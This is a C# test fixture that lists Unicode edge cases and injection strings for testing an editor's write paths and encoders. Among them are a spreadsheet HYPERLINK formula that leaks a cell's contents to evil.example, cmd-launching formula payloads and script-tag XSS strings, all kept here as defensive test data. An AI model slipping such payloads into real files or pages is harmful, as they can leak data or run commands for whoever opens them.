namespace FrontlineMaps.Server.Tests.Write;

/// <summary>Strings an editor may legitimately write (they are valid free text) but that break careless encoders.</summary>
internal static class HostileStrings
{
    /// <summary>A 100,000-character string (Arabic letters: 200 KB of UTF-8).</summary>
    public static readonly string Long = new('\u0639', 100_000);

    /// <summary>Every hostile string that is still valid free text.</summary>
    public static readonly string[] Valid =
    [
        "\u202Eevil\u202C override",                                     // bidi override
        "\u2066isolate\u2069 \u200F\u200E marks",                         // bidi isolates and marks
        "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Reuters\")",      // formula prefixes
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB-prefixed",
        "]]> end of CDATA",
        "</svg><script>alert(1)</script>",
        "</title></head><script>alert(2)</script>",
        "javascript:alert(3)",
        "<![CDATA[x]]> &amp; &lt; \"quotes\" 'single' `back`",
        "first line\nsecond line\twith tab",
        "\U0001F642 emoji, \u0625\u0639\u062C\u0627\u0632 Arabic, e\u0301 combining, \u00A0nbsp",
        "\\ backslash \\u0000 not an escape",
    ];

    /// <summary>Characters that are not valid free text: refused by writes, and what a legacy store may hold.</summary>
    public static readonly string[] Invalid = ["\u0000", "\u0007", "\u001B", "\r", "\u007F", "\u0085", "\uFFFF"];

    /// <summary>The i-th valid string (cycling), the long one at every 7th.</summary>
    public static string Pick(int i) => i % 7 == 6 ? Long : Valid[i % Valid.Length];
}
